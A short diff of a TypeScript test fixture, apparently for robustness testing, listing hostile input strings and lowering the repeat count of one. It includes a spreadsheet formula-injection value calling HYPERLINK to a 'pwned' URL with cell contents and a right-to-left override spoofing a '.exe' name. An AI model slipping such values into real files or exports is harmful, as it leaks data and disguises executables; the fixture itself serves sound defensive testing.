@@ -8,7 +8,7 @@ export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
   formula: '=HYPERLINK("http://127.0.0.1:1/pwned"&A1,"x");\t@SUM(1)\r\n+1',
   bidi: '\u202Etxt.exe\u202D\u2066\u200B\u2060\u00AD\uFEFF\u{E0041} عربى',
   long: `${'long text '.repeat(100_000)}end`,
-  hidden: '\u200B\u202E'.repeat(500_000),
+  hidden: '\u200B\u202E'.repeat(170_000),
 };
 const BROKEN_MARK = 'BROKEN-UTF8-MARK';
 /** The user of the record with broken UTF-8. */
